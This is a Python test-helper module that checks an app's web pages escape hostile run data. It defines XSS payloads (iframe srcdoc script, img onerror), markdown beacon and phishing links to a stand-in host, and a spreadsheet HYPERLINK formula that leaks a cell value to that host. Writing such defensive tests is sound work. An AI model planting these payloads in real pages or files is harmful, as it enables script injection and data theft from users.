"""Hostile run material for the web-surface tests (issue 20): payloads, a hostile run zip, and a check
that AppTest element texts hold no live HTML, link, image or beacon."""

from __future__ import annotations

import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any

SCRIPT = '<iframe srcdoc="<script>parent.document.title=1</script>">'
BEACON = "![x](http://beacon.invalid/track.png)"
LINK = "[Details](http://beacon.invalid/phish)"
FORMULA = '=HYPERLINK("http://beacon.invalid/?leak="&B2,"Details")'
IMG_TAG = "<img src=x onerror=alert(1)>"

_RAW_HTML = re.compile(r"(?<!\\)<[A-Za-z/!]")
_RAW_IMAGE_OR_LINK = re.compile(r"(?<!\\)\]\(")
_RAW_URL = re.compile(r"(?i)(https?\\?:\\?//|www\\?\.)")  # what GFM links even when backslash-escaped


def zip_of_run(run_path: Path, config: dict[str, Any] | None = None, status: dict[str, Any] | None = None) -> bytes:
    """A run zip (as export_run writes it) of a run folder, with config.json/status.json replaced."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for f in sorted(run_path.iterdir()):
            if f.name == "config.json" and config is not None:
                zf.writestr(f"{run_path.name}/config.json", json.dumps(config))
            elif f.name == "status.json" and status is not None:
                zf.writestr(f"{run_path.name}/status.json", json.dumps(status))
            elif f.is_file():
                zf.write(f, f"{run_path.name}/{f.name}")
    return buf.getvalue()


def element_texts(at: Any) -> list[str]:
    """Every text an AppTest page sends to the browser as markdown (bodies, labels, captions, helps,
    metric values) -- not the options and chosen values of selects, which render as plain text."""
    out: list[str] = []

    def strings(msg: Any) -> None:
        for fd, value in msg.ListFields():
            if fd.name in ("options", "default", "raw_value", "raw_values", "data", "spec", "arrow_data"):
                continue
            if fd.type == fd.TYPE_STRING:
                out.extend(value if fd.is_repeated else [value])
            elif fd.type == fd.TYPE_MESSAGE:
                for m in value if fd.is_repeated else [value]:
                    strings(m)

    def walk(node: Any) -> None:
        proto = getattr(node, "proto", None)
        if proto is not None and hasattr(proto, "ListFields"):
            strings(proto)
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)
    return out


def live_markup(texts: list[str]) -> list[str]:
    """The texts carrying a payload that would render it as HTML, a link, an image or a URL (unescaped)."""
    marked = [t for t in texts if any(w in t for w in ("beacon", "iframe", "onerror", "script"))]
    return [t for t in marked if _RAW_HTML.search(t) or _RAW_IMAGE_OR_LINK.search(t) or _RAW_URL.search(t)]
